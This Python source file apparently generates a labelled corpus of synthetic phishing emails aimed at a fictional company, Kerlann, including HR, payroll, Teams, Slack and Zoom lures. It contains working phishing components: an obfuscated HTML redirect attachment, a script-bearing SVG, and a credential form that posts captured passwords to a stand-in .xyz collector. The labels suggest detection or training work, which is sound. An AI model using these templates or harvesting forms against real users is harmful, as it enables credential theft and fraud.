def inline_png(name: str, data: bytes, cid: str) -> Leaf:
    return attachment("image/png", name, data, inline=True, cid=cid)


def related(seed: str, html: str, *images: Leaf, style: str = "outlook", n: int = 2) -> Multi:
    return Multi("related", boundary(seed, style, n), [text(html, "html"), *images], '\n\ttype="text/html";')


def page(inner: str, width: int = 600, font: str = "Segoe UI,Helvetica,Arial,sans-serif") -> str:
    return ("<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\"></head>\n"
            f"<body style=\"margin:0;padding:0;background:#f3f2f1;font-family:{font};\">\n"
            f"<table role=\"presentation\" width=\"100%\" cellpadding=\"0\" cellspacing=\"0\"><tr><td align=\"center\">\n"
            f"<table role=\"presentation\" width=\"{width}\" cellpadding=\"0\" cellspacing=\"0\" style=\"background:#ffffff;\">\n"
            f"<tr><td style=\"padding:24px 32px;font-size:14px;line-height:20px;color:#323130;\">\n{inner}\n</td></tr>\n"
            "</table></td></tr></table></body></html>\n")


def button(url: str, label: str, colour: str = "#0f6cbd") -> str:
    return (f'<table role="presentation" cellpadding="0" cellspacing="0"><tr><td style="background:{colour};border-radius:4px;">'
            f'<a href="{url}" style="display:inline-block;padding:10px 22px;color:#ffffff;text-decoration:none;font-weight:600;">'
            f'{label}</a></td></tr></table>')


def plain_html(paragraphs: list[str], signature: str = "", font: str = "Calibri,sans-serif") -> str:
    """The HTML part a desktop client writes for a short personal message."""
    from html import escape

    body = "".join(f'<p class="MsoNormal">{escape(p).replace(chr(10), "<br>")}</p>\n' for p in paragraphs)
    if signature:
        body += f'<p class="MsoNormal" style="color:#595959;font-size:9pt;">{escape(signature).replace(chr(10), "<br>")}</p>\n'
    return ("<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\"></head>\n"
            f"<body><div class=\"WordSection1\" style=\"font-family:{font};font-size:11pt;\">\n{body}</div></body></html>\n")


# --------------------------------------------------------------------------- sending infrastructures


def ip_for(seed: str, first: tuple[int, ...] = (45, 91, 103, 146, 185, 193, 194, 212)) -> str:
    h = hashlib.sha256(seed.encode()).digest()
    return f"{first[h[0] % len(first)]}.{h[1] % 250 + 2}.{h[2] % 250 + 2}.{h[3] % 250 + 2}"


def vps(name: str, country: str = "US") -> Src:
    """A throwaway domain's own server."""
    return Src(name, name, ip_for(name), country)


def gmail_src(seed: str) -> Src:
    n = int(hx(seed, 2, DIGITS))
    host = f"mail-wr1-f{n}.google.com"
    return Src(host, host, f"209.85.221.{n}")


def outlook_src(seed: str) -> Src:
    n = int(hx(seed, 3, DIGITS)) % 200 + 20
    return Src(f"NAM12-BN8-obe.outbound.protection.outlook.com",
               f"mail-bn8nam12olkn20{n % 90 + 10}.outbound.protection.outlook.com", f"40.92.21.{n % 250}")


def tenant_src(seed: str, region: str = "nam12", country: str = "US") -> Src:
    """Another organisation's Exchange Online outbound servers."""
    n = int(hx(seed, 3, DIGITS)) % 240 + 10
    code = {"nam12": "dm6nam12", "eur05": "am0eur05", "eur01": "db8eur01", "nam10": "bn7nam10"}[region]
    host = f"mail-{code}on20{n % 90 + 10}.outbound.protection.outlook.com"
    return Src(host, host, f"40.107.{int(hx(seed + 'o', 2, DIGITS)) + 100}.{n}", country)


def sendgrid_src(seed: str) -> Src:
    host = f"{hx(seed, 8, string.ascii_lowercase)}.outbound-mail.sendgrid.net"
    return Src(host, host, f"149.72.{int(hx(seed + 's', 2, DIGITS)) + 100}.{int(hx(seed + 't', 2, DIGITS)) + 10}")


def ses_src(seed: str, region: str = "us-east-1") -> Src:
    a, b = int(hx(seed, 1, DIGITS)) + 1, int(hx(seed + "b", 2, DIGITS)) + 10
    host = f"a{a * 8}-{b}.smtp-out.amazonses.com"
    return Src(host, host, f"54.240.{a * 8}.{b}")


def mailchimp_src(seed: str) -> Src:
    a, b = int(hx(seed, 2, DIGITS)) + 100, int(hx(seed + "b", 2, DIGITS)) + 1
    host = f"mail{a}-{b}.atl221.mcsv.net"
    return Src(host, host, f"198.2.{a}.{b}")


def google_src(seed: str) -> Src:
    """Google's own transactional senders (accounts, Drive)."""
    n = int(hx(seed, 2, DIGITS)) + 10
    host = f"mail-sor-f{n}.google.com"
    return Src(host, host, f"209.85.220.{n}")


def ses_mailfrom(seed: str, region: str = "us-east-1") -> str:
    return f"0100019{hx(seed, 9)}-{uuid(seed)}-000000@{'' if region == 'us-east-1' else region + '.'}amazonses.com"


def postfix_hop(seed: str, server: str, client_ip: str, moment: str, rcpt: str, helo: str = "[127.0.0.1]") -> str:
    m = when(moment) - timedelta(seconds=3)
    return (f"Received: from {helo} (unknown [{client_ip}])\n\tby {server} (Postfix) with ESMTPSA id "
            f"{hx(seed + 'pf', 11, UPPER)}\n\tfor <{rcpt}>; {rfc(m)}")


def gmail_hop(seed: str, moment: str) -> str:
    m = when(moment) - timedelta(seconds=2)
    return (f"Received: by mail-wr1-f{int(hx(seed, 2, DIGITS))}.google.com with SMTP id "
            f"{hx(seed + 'gm', 20, string.ascii_lowercase + DIGITS)}.{hx(seed + 'gn', 1, DIGITS)}\n"
            f"        for <{'undisclosed'}>; {rfc(m)}").replace("for <undisclosed>; ", "")


OUTLOOK_BODY_EXTRA = ("X-MS-Has-Attach: ", "X-MS-TNEF-Correlator: ")


# --------------------------------------------------------------------------- attachment scripts


def obfuscated_redirect_html(target: str, email: str, title: str, seed: str) -> bytes:
    """An HTML attachment that rebuilds its target from character codes and appends the victim's address."""
    codes = ",".join(str(ord(c) + 7) for c in target)
    var = hx(seed, 6, string.ascii_lowercase)
    return (f"""<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>{title}</title>
<meta name="robots" content="noindex, nofollow"></head>
<body style="font-family:Segoe UI,Arial;background:#f4f4f4">
<div style="margin:120px auto;width:360px;text-align:center;color:#555">
<img src="data:image/gif;base64,R0lGODlhEAAQAPIAAP///wAAAMLCwkJCQgAAAGJiYoKCgpKSkiH/C05FVFNDQVBFMi4wAwEAAAAh+QQJCgAAACwAAAAAEAAQAAADMwi63P4wyklrE2MIOggZnAdOmGYJRbExwroUmcG2LmDEwnHQLVsYOd2mBzkYDAdKa+dIAAAh+QQJCgAAACwAAAAAEAAQAAADNAi63P5OjCEgG4QMu7DmikRxQlFUYDEZIGBMRVsaqHwctXXf7WEYB4Ag1xjihkMZsiUkKhIAIfkECQoAAAAsAAAAABAAEAAAAzYIujIjK8pByJDMlFYvBoVjHA70GU7xSUJhmKtwHPAKzLO9HMaoKwJZ7Rf8AYPDDzKpZBqfvwQAIfkECQoAAAAsAAAAABAAEAAAAzMIumIlK8oyhpHsnFZfhYumCYUhDAQxRIdhHBGqRoKw0R8DYlJd8z0fMDgsGo/IpHI5TAAAIfkECQoAAAAsAAAAABAAEAAAAzIIunInK0rnZBTwGPNMgQwmdsNgXGJUlIWEuR5oWUIpz8pAEAMe6TwfwyYsGo/IpFKSAAAh+QQJCgAAACwAAAAAEAAQAAADMwi6IMKQORfjdOe82p4wGccc4CEuQradylesojEMBgsUc2G7sDX3lQGBMLAJibufbSlKAAAh+QQJCgAAACwAAAAAEAAQAAADMgi63P7wCRHZnFVdmgHu2nFwlWCI3WGc3TSWhUFGxTAUkGCbtgENBMJAEJsxgMLWzpEAACH5BAkKAAAALAAAAAAQABAAAAMyCLrc/jDKSatlQtScKdceCAjDII7HcQ4EMTCpyrCuUBjCYRgHVtqlAiB1YhiCnlsRkAAAOwAAAAAAAAAAAA==" alt="">
<p>Loading secure document&hellip;</p></div>
<script>
var {var}=[{codes}];var u='';for(var i=0;i<{var}.length;i++){{u+=String.fromCharCode({var}[i]-7);}}
var m=atob('{b64s(email)}');
setTimeout(function(){{window.location.replace(u+'#'+btoa(m));}},900);
</script></body></html>
""").encode()


def login_form_html(brand: str, email: str, post_to: str, title: str, extra_note: str = "") -> bytes:
    """A credential form that prefills the victim's address and posts to the kit's collector."""
    return (f"""<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width">
<title>{title}</title>
<style>body{{font-family:"Segoe UI",Arial,sans-serif;background:#eef1f5}}.box{{width:380px;margin:80px auto;background:#fff;padding:36px;box-shadow:0 2px 6px rgba(0,0,0,.2)}}
input{{width:100%;padding:8px;margin:8px 0;border:0;border-bottom:1px solid #666}}button{{background:#0067b8;color:#fff;border:0;padding:8px 32px;float:right}}</style>
</head><body><div class="box">
<div style="font-size:20px;font-weight:600">{brand}</div>
<p style="font-size:13px">{extra_note or 'Because you are accessing sensitive information, you need to verify your password.'}</p>
<form id="f" method="post" action="javascript:void(0)">
<input type="email" id="e" value="{email}" readonly>
<input type="password" id="p" placeholder="Password" autocomplete="current-password">
<div id="err" style="color:#c00;font-size:12px;display:none">Your account or password is incorrect. Try again.</div>
<button type="submit">Sign in</button></form></div>
<script>
var c=0;document.getElementById('f').onsubmit=function(){{
 var d=btoa(JSON.stringify({{u:document.getElementById('e').value,p:document.getElementById('p').value,n:c}}));
 fetch(atob('{b64s(post_to)}'),{{method:'POST',headers:{{'Content-Type':'application/x-www-form-urlencoded'}},body:'d='+encodeURIComponent(d)}});
 c++;if(c<2){{document.getElementById('err').style.display='block';document.getElementById('p').value='';}}
 else{{window.location.href='https://www.office.com/';}}return false;}};
</script></body></html>
""").encode()


# =========================================================================== phishing


def phishing_hr() -> None:
    # 1 ------------------------------------------------------------------ salary adjustment, DOCX with QR
    slug = "salary-adjustment-docx-qr"
    qr_url = "https://hr-docs.kerlann-hrportal.com.review-letter.sbs/esign/?u=" + b64s(MEG[1])
    doc = docx_rich([
        "Kerlann Logistics Inc. - Compensation Adjustment Letter 2025",
        "Employee: Megan Doyle",
        "Effective date: April 1, 2025",
        "As part of the annual compensation review, your base salary and bonus eligibility have been adjusted. "
        "The full breakdown is held in the secure HR portal.",
        "To view and e-sign your letter, scan the QR code below with your phone camera. "
        "For security reasons the letter cannot be opened on a company computer.",
        "Signature required before March 14, 2025. Unsigned letters revert to the previous pay grade.",
        "Human Resources - Kerlann",
    ], "Compensation Adjustment Letter", "HR Department", image=files.qr_png(qr_url), image_at=5)
    build(slug, "phishing",
          "salary-adjustment lure from lookalike kerlann-hrportal.com; DOCX whose only call to action is a QR code "
          "to a .sbs host with the recipient's address base64 in the query; asks to scan on a phone",
          rcpt=MEG, moment="2025-03-10T08:41:07-04:00",
          frm='"Kerlann HR Services" <hr-notification@kerlann-hrportal.com>',
          subject="2025 Salary Adjustment Letter - Megan Doyle - Signature Required",
          body=mixed(slug, alt(slug,
                "Hello Megan,\n\nPlease find attached your 2025 compensation adjustment letter.\n\n"
                "Review the document and complete your e-signature by Friday, March 14. Scan the QR code in the "
                "letter with your mobile device to access the secure signing page.\n\nRegards,\nHR Services\nKerlann",
                plain_html(["Hello Megan,", "Please find attached your 2025 compensation adjustment letter.",
                            "Review the document and complete your e-signature by Friday, March 14. Scan the QR code in "
                            "the letter with your mobile device to access the secure signing page.",
                            "Regards,\nHR Services\nKerlann"])),
                attachment("application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                           "Salary_Adjustment_2025_MDoyle.docx", doc)),
          src=vps("mail.kerlann-hrportal.com", "NL"),
          auth=Auth("bounce@kerlann-hrportal.com", dkim=[("pass", "kerlann-hrportal.com", "default")], dmarc="none"))

    # 2 ------------------------------------------------------------------ handbook acknowledgement via google.com/url
    slug = "handbook-acknowledge-google-redirect"
    target = "https://handbook-ack.kerlann-docs.workers.dev/#" + b64s(CAM[1])
    link = ("https://www.google.com/url?q=" + quote(target, safe="") +
            "&sa=D&source=editors&ust=1741860012000000&usg=AOvVaw0" + hx(slug, 20, ALNUM))
    html = page(f"""<p style="font-size:18px;font-weight:600;color:#1b1b1b">Kerlann Industries &ndash; Employee Handbook 2025</p>
<p>Dear Camille,</p>
<p>The Employee Handbook has been updated for 2025 (remote work, expense claims, information security and the new
code of conduct). All employees must read and acknowledge the updated policies by <b>Friday 14 March 2025</b>.</p>
<p>Acknowledgement is recorded against your Microsoft 365 account.</p>
{button(link, "Review &amp; Acknowledge")}
<p style="font-size:12px;color:#605e5c">Human Resources &middot; Kerlann Industries &middot; Rennes</p>""")
    build(slug, "phishing",
          "HR handbook acknowledgement sent from a compromised bakery's mailbox with 'Kerlann Industries' display name; "
          "button goes through google.com/url open redirect to workers.dev with the address base64 in the #fragment",
          rcpt=CAM, moment="2025-03-12T10:02:44+01:00",
          frm='"Kerlann Industries | Human Resources" <contact@boulangerie-lemoal.fr>',
          subject="Updated Employee Handbook 2025 - Acknowledgement Required",
          body=html_only(html),
          src=Src("mo582.mail-out.ovh.net", "mo582.mail-out.ovh.net", "46.105.45.87", "FR"),
          auth=Auth("contact@boulangerie-lemoal.fr", dkim=[("pass", "boulangerie-lemoal.fr", "ovhmo-selector-1")],
                    policy="none"),
          to="undisclosed-recipients:;",
          sender_hops=(postfix_hop(slug, "ex4.mail.ovh.net", "102.89.34.17", "2025-03-12T10:02:44+01:00", CAM[1]),))

    # 3 ------------------------------------------------------------------ open enrollment, PDF link to Firebase
    slug = "open-enrollment-pdf-firebase"
    pdf = files.pdf([
        "Kerlann Logistics Inc. - 2026 Benefits Open Enrollment",
        "",
        "Open Enrollment closes Friday, November 14, 2025 at 5:00 PM ET.",
        "",
        "Employees who do not confirm their elections will be defaulted to",
        "Employee-only coverage and lose dependent and HSA contributions.",
        "",
        "Medical plan rates change on January 1, 2026. Review your elections",
        "and confirm your dependents in the Benefits Portal below.",
    ], link=("https://kerlann-benefits-2026.web.app/enroll?id=" + hx(slug, 10, ALNUM) + "&e=" + quote(MEG[1]),
             (56, 560, 300, 600)), title="2026 Open Enrollment")
    build(slug, "phishing",
          "benefits open-enrollment lure from lookalike kerlann-benefits.com sent through Amazon SES; the PDF's one "
          "link goes to a Firebase web.app page carrying the recipient's address",
          rcpt=MEG, moment="2025-11-10T09:15:30-05:00",
          frm='"Benefits Administration" <benefits@kerlann-benefits.com>',
          subject="ACTION REQUIRED: 2026 Open Enrollment closes Friday - confirm your elections",
          body=mixed(slug, alt(slug,
                "Hi Megan,\n\nThis is a reminder that 2026 Benefits Open Enrollment closes this Friday, November 14.\n\n"
                "Your elections have not been confirmed. Please open the attached enrollment summary and confirm your "
                "medical, dental and HSA elections through the Benefits Portal.\n\nIf no action is taken you will be "
                "enrolled in Employee-only coverage for 2026.\n\nBenefits Administration\nKerlann Logistics Inc.",
                page("<p>Hi Megan,</p><p>This is a reminder that <b>2026 Benefits Open Enrollment closes this Friday, "
                     "November 14</b>.</p><p>Your elections have not been confirmed. Please open the attached enrollment "
                     "summary and confirm your medical, dental and HSA elections through the Benefits Portal.</p>"
                     "<p>If no action is taken you will be enrolled in Employee-only coverage for 2026.</p>"
                     "<p>Benefits Administration<br>Kerlann Logistics Inc.</p>")),
                attachment("application/pdf", "2026_Open_Enrollment_Summary.pdf", pdf)),
          src=ses_src(slug),
          auth=Auth(ses_mailfrom(slug), dkim=[("pass", "kerlann-benefits.com", "x7kq2wdn3"),
                                              ("pass", "amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono")],
                    policy="none"))

    # 4 ------------------------------------------------------------------ direct deposit change confirmation
    slug = "direct-deposit-change-adp-lookalike"
    link = "https://workforcenow.adp.com.dd-verify.info/portal/cancel?ref=DD-20945&uid=" + quote(RYA[1])
    html = page(f"""<div style="border-bottom:3px solid #d0271d;padding-bottom:8px;font-size:22px;font-weight:700;color:#d0271d">ADP</div>
<p><b>Direct Deposit Change Confirmation</b></p>
<p>Hello Ryan Castillo,</p>
<p>This message confirms that the direct deposit account on your ADP Workforce Now profile was changed on
<b>05/12/2025 at 11:47 PM ET</b>.</p>
<table cellpadding="4" style="font-size:13px"><tr><td>Previous account</td><td>Checking ****4412</td></tr>
<tr><td>New account</td><td>Checking ****0938 (Green Dot Bank)</td></tr><tr><td>Effective</td><td>Next pay date 05/16/2025</td></tr></table>
<p>If you did not make this change, cancel it within 24 hours to keep your next paycheck going to your current account.</p>
{button(link, "Cancel This Change", "#d0271d")}
<p style="font-size:11px;color:#777">ADP, the ADP logo and Always Designing for People are trademarks of ADP, Inc.
This is an automated message; please do not reply. Reference DD-20945.</p>""")
    build(slug, "phishing",
          "fake ADP direct-deposit change confirmation from adp-workforcenow.info (no DKIM, no DMARC); 'cancel this "
          "change' goes to workforcenow.adp.com.dd-verify.info, a brand-as-subdomain lookalike, with the address",
          rcpt=RYA, moment="2025-05-13T07:22:18-04:00",
          frm='"ADP Workforce Now" <security-notice@adp-workforcenow.info>',
          subject="Direct Deposit Change Confirmation - Ref DD-20945",
          body=alt(slug, "ADP Direct Deposit Change Confirmation\n\nThe direct deposit account on your profile was "
                         f"changed on 05/12/2025. If you did not make this change, cancel it: {link}\n", html, "kit"),
          src=vps("srv1.adp-workforcenow.info", "US"),
          auth=Auth("security-notice@adp-workforcenow.info", dmarc="none"))

    # 5 ------------------------------------------------------------------ W-2 HTML attachment
    slug = "w2-available-html-redirect"
    att = obfuscated_redirect_html("https://w2-portal.kerlann-payroll.workers.dev/view/", MEG[1],
                                   "W-2 Wage and Tax Statement 2025", slug)
    build(slug, "phishing",
          "W-2 notice from a compromised dental practice's mailbox under the name 'Kerlann Payroll'; HTML attachment "
          "decodes its target from shifted character codes and redirects with the address base64 in the fragment",
          rcpt=MEG, moment="2026-01-27T14:05:52-05:00",
          frm='"Kerlann Payroll" <frontdesk@summitviewdental.com>',
          subject="Your 2025 Form W-2 is ready to view",
          body=mixed(slug, alt(slug,
                "Megan,\n\nYour 2025 Form W-2 (Wage and Tax Statement) is now available. A copy is attached for your "
                "records. Open the attachment on your computer and sign in to view and download the form.\n\n"
                "Please verify your mailing address and SSN are correct before filing.\n\nPayroll Department",
                plain_html(["Megan,", "Your 2025 Form W-2 (Wage and Tax Statement) is now available. A copy is attached "
                            "for your records. Open the attachment on your computer and sign in to view and download "
                            "the form.", "Please verify your mailing address and SSN are correct before filing.",
                            "Payroll Department"])),
                attachment("text/html", "W2_2025_MDoyle.html", att)),
          src=Src("gateway.summitviewdental.com", "gateway.summitviewdental.com", "70.38.112.54"),
          auth=Auth("frontdesk@summitviewdental.com", dkim=[("pass", "summitviewdental.com", "s1")], policy="none"),
          sender_hops=(postfix_hop(slug, "gateway.summitviewdental.com", "154.16.49.202",
                                   "2026-01-27T14:05:52-05:00", MEG[1]),))

    # 6 ------------------------------------------------------------------ P60 on Vercel
    slug = "p60-vercel-lookalike"
    link = "https://kerlann-p60-portal.vercel.app/?ref=" + hx(slug, 12, ALNUM)
    build(slug, "phishing",
          "UK P60 notice from lookalike kerlann-uk.com; link to a vercel.app page named after the company",
          rcpt=OLI, moment="2025-05-28T09:33:12+01:00",
          frm='"HR & Payroll - Kerlann UK" <payroll@kerlann-uk.com>',
          subject="Your P60 End of Year Certificate 2024/25 is now available",
          body=alt(slug,
                   "Dear Oliver,\n\nYour P60 End of Year Certificate for the tax year 6 April 2024 to 5 April 2025 is now "
                   f"available in the employee portal.\n\nView your P60: {link}\n\nYou will need your P60 to claim tax "
                   "back or to apply for a mortgage. Download it before 31 May, after which it is archived.\n\n"
                   "Kind regards,\nHR & Payroll\nKerlann UK Ltd",
                   page(f"<p>Dear Oliver,</p><p>Your <b>P60 End of Year Certificate</b> for the tax year 6 April 2024 to "
                        f"5 April 2025 is now available in the employee portal.</p>{button(link, 'View my P60')}"
                        "<p>You will need your P60 to claim tax back or to apply for a mortgage. Download it before "
                        "31 May, after which it is archived.</p><p>Kind regards,<br>HR &amp; Payroll<br>Kerlann UK Ltd</p>")),
          src=vps("mail.kerlann-uk.com", "GB"),
          auth=Auth("payroll@kerlann-uk.com", dkim=[("pass", "kerlann-uk.com", "mail")], dmarc="none"))

    # 7 ------------------------------------------------------------------ compensation policy ICS
    slug = "compensation-policy-ics-invite"
    link = "https://kerlann-people.icu/ack/?u=" + quote(CAM[1]) + "&t=" + hx(slug, 16)
    desc = ("Dear colleague,\n\nAttendance is mandatory. Before the session, review and acknowledge the 2025 "
            "compensation and remote work policy in the People portal:\n" + link +
            "\n\nAcknowledgements not received by 17:00 will be escalated to your manager.\n\nPeople Team - Kerlann Industries")
    cal = ics(f"{uuid(slug)}@kerlann-industries.com", "Mandatory: 2025 Compensation & Policy Acknowledgement",
              "20250318T090000Z", "20250318T093000Z", "CN=Kerlann People Team:mailto:people@kerlann-industries.com",
              CAM[1], desc, "Microsoft Teams Meeting", stamp="20250317T081500Z")
    build(slug, "phishing",
          "calendar invitation from kerlann-industries.com (the .fr organisation's name on another TLD); the link "
          "to acknowledge a compensation policy sits in the event description and leads to a .icu host",
          rcpt=CAM, moment="2025-03-17T09:15:03+01:00",
          frm='"Kerlann People Team" <people@kerlann-industries.com>',
          subject="Invitation: Mandatory: 2025 Compensation & Policy Acknowledgement @ Tue 18 Mar 2025 10:00",
          body=mixed(slug, Multi("alternative", boundary(slug, "outlook", 1),
                                 [text(desc), text(page("<p>" + desc.replace("\n", "<br>").replace(
                                     link, f'<a href="{link}">{link}</a>') + "</p>"), "html"), cal_part(cal)]),
                     attachment("application/ics", "invite.ics", cal)),
          src=vps("mx1.kerlann-industries.com", "DE"),
          auth=Auth("people@kerlann-industries.com", dkim=[("pass", "kerlann-industries.com", "k1")], dmarc="none"))

    # 8 ------------------------------------------------------------------ bonus, encrypted ZIP, password in body
    slug = "bonus-allocation-encrypted-zip"
    inner = login_form_html("Microsoft", JUL[1], "https://cdn-files-kerlann.xyz/api/collect.php",
                            "Bonus_Allocation_Q1_2025 - Secure View",
                            "This file is protected. Sign in with your work account to decrypt the bonus allocation sheet.")
    zipped = encrypted_zip([("Bonus_Allocation_Q1_2025.htm", inner)], "KRL-2025", slug)
    build(slug, "phishing",
          "confidential bonus lure from kerlann-industrie.fr (one letter off); encrypted ZIP whose password is in "
          "the body hides an HTML credential form that posts to a .xyz collector",
          rcpt=JUL, moment="2025-04-02T16:48:29+02:00",
          frm='"Sophie Tanguy - RH" <sophie.tanguy@kerlann-industrie.fr>',
          subject="Confidential: Q1 2025 performance bonus allocation",
          body=mixed(slug, alt(slug,
                "Hello Julien,\n\nPlease find attached the Q1 2025 performance bonus allocation for your team, to be "
                "validated before payroll closes on Friday.\n\nFor confidentiality the file is encrypted.\n"
                "Password: KRL-2025\n\nPlease do not forward.\n\nBest regards,\nSophie Tanguy\nRessources Humaines",
                plain_html(["Hello Julien,", "Please find attached the Q1 2025 performance bonus allocation for your "
                            "team, to be validated before payroll closes on Friday.",
                            "For confidentiality the file is encrypted.\nPassword: KRL-2025", "Please do not forward.",
                            "Best regards,\nSophie Tanguy\nRessources Humaines"])),
                attachment("application/x-zip-compressed", "Bonus_Q1_2025.zip", zipped)),
          src=vps("mail.kerlann-industrie.fr", "FR"),
          auth=Auth("sophie.tanguy@kerlann-industrie.fr", dkim=[("pass", "kerlann-industrie.fr", "default")],
                    policy="none"))


def phishing_collaboration() -> None:
    # 9 ------------------------------------------------------------------ Teams missed messages via bing.com/ck
    slug = "teams-missed-messages-bing-redirect"
    target = "https://teams-chat-kerlann.top/l/?e=" + b64s(CAM[1])
    link = ("https://www.bing.com/ck/a?!&&p=" + hx(slug, 64) + "JmltdHM9MTc0MDk2MDAwMA&ptn=3&ver=2&hsh=4&fclid="
            + uuid(slug) + "&u=a1" + base64.urlsafe_b64encode(target.encode()).decode().rstrip("=") + "&ntb=1")
    html = page(f"""<p style="color:#5b5fc7;font-size:20px;font-weight:600">Microsoft Teams</p>
<p style="font-size:16px">You have <b>3 missed messages</b> from your team</p>
<table cellpadding="8" style="background:#f5f5f5;width:100%"><tr><td>
<b>Thomas Girard</b> &middot; 09:12<br>Camille, can you check the revised transport rates before noon?<br><br>
<b>Thomas Girard</b> &middot; 09:14<br>I've put the file in the chat, it's urgent for the board pack.<br><br>
<b>Erwan Cadiou</b> &middot; 09:20<br>+1, need your validation</td></tr></table>
<br>{button(link, "Reply in Teams", "#5b5fc7")}
<p style="font-size:11px;color:#8a8886">You are receiving this email because you have missed activity in Microsoft Teams.
Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</p>""")
    build(slug, "phishing",
          "Teams 'missed messages' lookalike from teams-notify-center.com quoting the CFO's name; 'Reply in Teams' "
          "goes through a bing.com/ck/a redirect whose u=a1 parameter is the base64 of a .top URL with the address",
          rcpt=CAM, moment="2025-03-04T09:31:40+01:00",
          frm='"Microsoft Teams" <noreply@teams-notify-center.com>',
          subject="You have 3 missed messages in Teams",
          body=html_only(html),
          src=vps("mta2.teams-notify-center.com", "US"),
          auth=Auth("noreply@teams-notify-center.com", dkim=[("pass", "teams-notify-center.com", "s2025")],
                    policy="none"))

    # 10 ----------------------------------------------------------------- Teams voicemail SVG
    slug = "voicemail-svg-attachment"
    target = "https://vm-play.kerlann-voice.online/m/"
    codes = "".join(f"\\x{ord(c):02x}" for c in target)
    svg = (f"""<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="420" height="120" viewBox="0 0 420 120">
<rect width="420" height="120" rx="8" fill="#5b5fc7"/>
<text x="24" y="50" font-family="Segoe UI,Arial" font-size="18" fill="#ffffff">Voice Message (0:47)</text>
<text x="24" y="82" font-family="Segoe UI,Arial" font-size="13" fill="#e0e0ff">+1 (704) 555-0183 - Play</text>
<script type="text/javascript"><![CDATA[
var _0x1a=['{codes}','{b64s(MEG[1])}','location','replace'];
(function(){{var t=_0x1a[0],m=_0x1a[1];setTimeout(function(){{window[_0x1a[2]][_0x1a[3]](t+'?v='+m);}},400);}})();
]]></script>
</svg>
""").encode()
    build(slug, "phishing",
          "voicemail notification from a .online lookalike sender; SVG attachment runs script that rebuilds a hex-"
          "escaped URL and sends the browser there with the base64 address",
          rcpt=MEG, moment="2025-06-18T11:02:09-04:00",
          frm='"Teams Voice" <voicemail@unified-msg-notify.online>',
          subject="Voicemail from +1 (704) 555-0183 - Duration 0:47",
          body=mixed(slug, alt(slug,
                "New voice message\n\nFrom: +1 (704) 555-0183\nReceived: Wed 6/18/2025 10:58 AM\nDuration: 0:47\n\n"
                "Open the attached audio to listen.\n\nMicrosoft Teams Voice",
                page("<p style='font-size:18px;color:#5b5fc7'>New voice message</p><table cellpadding='3'>"
                     "<tr><td>From:</td><td>+1 (704) 555-0183</td></tr><tr><td>Received:</td><td>Wed 6/18/2025 10:58 AM</td></tr>"
                     "<tr><td>Duration:</td><td>0:47</td></tr></table><p>Open the attached audio to listen.</p>"
                     "<p style='font-size:11px;color:#888'>Microsoft Teams Voice</p>"), "kit"),
                attachment("image/svg+xml", "VM_Play_0047.svg", svg), style="kit"),
          src=vps("server.unified-msg-notify.online", "US"),
          auth=Auth("voicemail@unified-msg-notify.online", spf="pass", dmarc="none"))

    # 11 ----------------------------------------------------------------- Slack on Netlify
    slug = "slack-unread-netlify"
    link = "https://kerlann-slack.netlify.app/signin?team=kerlann&redir=%2Fmessages%2Faccounts-uk"
    html = page(f"""<p style="font-size:22px;font-weight:700;color:#4a154b">slack</p>
<p style="font-size:16px">You have <b>4 unread messages</b> in <b>Kerlann</b></p>
<p style="background:#f8f8f8;padding:12px;border-left:4px solid #4a154b"><b>#accounts-uk</b><br>
<b>Hélène Marchand:</b> @Oliver please review the updated customer pricing before the call<br>
<b>Daniel Brooks:</b> shared a file: Pricing_Q3_FINAL.xlsx</p>
{button(link, "View in Slack", "#4a154b")}
<p style="font-size:11px;color:#888">This email was sent to you because your notification preferences are set to email
for unread mentions. Slack Technologies, LLC, 500 Howard Street, San Francisco, CA 94105</p>""", font="Lato,Arial,sans-serif")
    build(slug, "phishing",
          "Slack unread-messages lookalike from slack-workspace-alerts.com naming the CEO; 'View in Slack' goes to a "
          "netlify.app sign-in page, not slack.com",
          rcpt=OLI, moment="2025-07-09T14:27:55+01:00",
          frm='"Slack" <notification@slack-workspace-alerts.com>',
          subject="[Slack] New messages in #accounts-uk from Hélène Marchand",
          body=html_only(html),
          src=vps("out.slack-workspace-alerts.com", "US"),
          auth=Auth("bounce@slack-workspace-alerts.com", dkim=[("pass", "slack-workspace-alerts.com", "sl1")],
                    dmarc="none"))

    # 12 ----------------------------------------------------------------- Zoom recording via SendGrid tracking
    slug = "zoom-recording-sendgrid-click"
    final = "https://zoomrecord-share.click/rec/play/" + hx(slug, 22, ALNUM)
    link = ("https://u48213952.ct.sendgrid.net/ls/click?upn=u001." + hx(slug + "u", 120, ALNUM + "-_") +
            "-2B" + hx(slug + "v", 40, ALNUM))
    html = page(f"""<p style="color:#0b5cff;font-size:22px;font-weight:700">zoom</p>
<p>Hi Megan,</p>
<p>Cloud recording of <b>Q2 Vendor Performance Review</b> is now available.</p>
<p>Host: Daniel Brooks<br>Date: Jun 24, 2025 10:00 AM Eastern Time (US and Canada)<br>Duration: 52 min</p>
{button(link, "Play Recording", "#0b5cff")}
<p>Passcode: <b>8#Kq2x!m</b></p>
<p style="font-size:11px;color:#888">Copyright &copy;2025 Zoom Communications, Inc. All rights reserved.</p>""")
    build(slug, "phishing",
          "Zoom recording lookalike from zoom-meetings-us.com sent through SendGrid; the button's ct.sendgrid.net "
          "click-tracking link hides the final .click destination",
          rcpt=MEG, moment="2025-06-24T13:51:26-04:00",
          frm='"Zoom" <no-reply@zoom-meetings-us.com>',
          subject="Cloud Recording - Q2 Vendor Performance Review is now available",
          body=alt(slug, f"Cloud recording of Q2 Vendor Performance Review is now available.\nPlay: {link}\n"
                         "Passcode: 8#Kq2x!m\n", html, "other"),
          src=sendgrid_src(slug),
          auth=Auth("bounces+48213952-5a1c-megan.doyle=kerlann.com@em6617.zoom-meetings-us.com",
                    dkim=[("pass", "zoom-meetings-us.com", "s1"), ("pass", "sendgrid.info", "smtpapi")], policy="none"),
          extra=(f"X-SG-EID: {hx(slug + 'eid', 100, B64)}", f"X-Entity-ID: u001.{hx(slug + 'ent', 24, B64)}"))
